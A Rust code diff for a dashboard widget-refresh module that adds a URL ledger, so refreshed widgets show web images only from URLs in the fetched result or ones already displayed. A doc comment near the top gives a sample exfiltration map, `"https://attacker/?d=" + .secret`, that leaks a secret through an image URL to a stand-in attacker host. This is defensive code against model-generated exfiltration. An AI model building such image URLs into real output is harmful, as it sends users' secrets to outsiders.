@@ -1,24 +1,31 @@
 //! Sources on widgets: run one when `widget_display` or `canvas update` binds it (its errors go
 //! back in the same turn), and refresh a bound widget later, keeping its data when that fails.
+//!
+//! The map is the model's (or whoever made the dashboard), so a refresh holds its images to the same
+//! rule as the model's first ones: a web image shows only from a URL in the data, here the result
+//! that refresh fetched, or one the widget already shows. A map that writes
+//! `"https://attacker/?d=" + .secret` gets that image dropped at every refresh, as on first display.
 
 use std::rc::Rc;
 use std::sync::Arc;
 
+use futures::future::LocalBoxFuture;
 use serde_json::{Value, json};
 
 use crate::autoui::AutoUi;
 use crate::autoui::error::AutoUiError;
 use crate::autoui::view;
 use crate::binding::fetch::{self, Fetched, SourceFetcher};
-use crate::binding::source::{Binding, Source};
+use crate::binding::source::{Binding, Source, Target};
 use crate::cancel::CancelToken;
 use crate::canvas::op::{Op, RefreshOutcome};
 use crate::ids::BlockId;
 use crate::ports::Clock;
-use crate::provenance::ImageSources;
+use crate::provenance::{ImageSources, UrlLedger};
 use crate::recipes::check::CheckError;
+use crate::recipes::sanitize::sanitize_with;
 use crate::recipes::validate::Detail;
-use crate::tool::Origin;
+use crate::tool::{Origin, ToolResult};
 
 /// What runs sources: the fetcher and the clock that dates what it fetched.
 #[derive(Clone)]
@@ -54,11 +61,12 @@ impl AutoUi {
         let outcome = match self.sources.as_ref() {
             None => Err("this page cannot fetch data for widgets".to_owned()),
             Some(sources) => {
-                match fetch::fetch(sources.fetcher.as_ref(), &binding.source, &block.data, cancel).await {
+                let noting = Noting { fetcher: sources.fetcher.as_ref(), urls: UrlLedger::default() };
+                match fetch::fetch(&noting, &binding.source, &block.data, cancel).await {
                     Err(error) => Err(error.to_string()),
                     Ok(mut fetched) => {
                         binding.keep_rename(block.kind, &block.data, &mut fetched.params);
-                        self.checked(id, fetched.params).map(|data| (data, sources.clock.unix_ms()))
+                        self.checked(id, fetched.params, &noting.urls).map(|data| (data, sources.clock.unix_ms()))
                     }
                 }
             }
@@ -78,17 +86,20 @@ impl AutoUi {
         result
     }
 
-    /// A refresh's params checked against the widget's schema, its errors in one line.
-    fn checked(&self, id: &BlockId, params: Value) -> Result<Value, String> {
+    /// A refresh's params checked against the widget's schema, its errors in one line. Its web
+    /// images must be in `fetched` (the URLs of the result it fetched) or shown by the widget already.
+    fn checked(&self, id: &BlockId, params: Value, fetched: &UrlLedger) -> Result<Value, String> {
         let block = self.block(id).map_err(|error| error.to_string())?;
-        // The data is the tool's own, so its image URLs need no ledger.
         let recipe = self.registry.get(block.kind).ok_or_else(|| format!("no recipe for {}", block.kind.as_str()))?;
-        match recipe.check_with(params, self.validator.as_ref(), ImageSources::Any) {
+        record_shown_images(&block.data, fetched);
+        match recipe.check_with(params, self.validator.as_ref(), ImageSources::Known(fetched)) {
             Ok(checked) => Ok(checked.data),
             Err(CheckError::Rejected(rejected)) => {
-                let details: Vec<String> =
-                    rejected.details.iter().map(|detail| format!("{}: {}", detail.path, detail.message)).collect();
-                Err(format!("the new data does not fit the widget: {}", details.join("; ")))
+                let details = rejected.details.iter().map(|detail| format!("{}: {}", detail.path, detail.message));
+                // An image the map made up may be why a required field is missing: say so.
+                let dropped = rejected.dropped.iter().map(|dropped| format!("{} dropped: {}", dropped.path, dropped.reason));
+                let problems: Vec<String> = details.chain(dropped).collect();
+                Err(format!("the new data does not fit the widget: {}", problems.join("; ")))
             }
             Err(CheckError::Validator(error)) => Err(error.to_string()),
         }
@@ -98,6 +109,40 @@ impl AutoUi {
     pub(crate) fn bind(&self, id: &BlockId, binding: Binding, origin: Origin) -> Result<(), AutoUiError> {
         self.canvas.apply(Op::Bind { id: id.clone(), binding: Some(Arc::new(binding)) }, origin)?;
         Ok(())
+    }
+}
+
+/// The fetcher of one refresh, noting the URLs of the result it fetched.
+struct Noting<'a> {
+    fetcher: &'a dyn SourceFetcher,
+    urls: UrlLedger,
+}
+
+impl SourceFetcher for Noting<'_> {
+    fn fetch<'a>(&'a self, target: &'a Target, cancel: CancelToken) -> LocalBoxFuture<'a, Result<ToolResult, String>> {
+        Box::pin(async move {
+            let fetched = self.fetcher.fetch(target, cancel).await;
+            if let Ok(result) = &fetched {
+                self.urls.record_result(result);
+            }
+            fetched
+        })
+    }
+}
+
+/// Records in `urls` the web images `data` shows: a check that knows no URL drops exactly those,
+/// and each is read back from `data` where it was dropped. Only image fields count, so a URL the
+/// model wrote into a text or a link at first display cannot become an image at a refresh.
+fn record_shown_images(data: &Value, urls: &UrlLedger) {
+    let mut probe = data.clone();
+    for dropped in sanitize_with(&mut probe, ImageSources::Known(&UrlLedger::default())) {
+        let shown = match data.pointer(&dropped.path) {
+            Some(Value::Object(image)) => image.get("src"),
+            shown => shown,
+        };
+        if let Some(Value::String(url)) = shown {
+            urls.record_data(url);
+        }
     }
 }
 
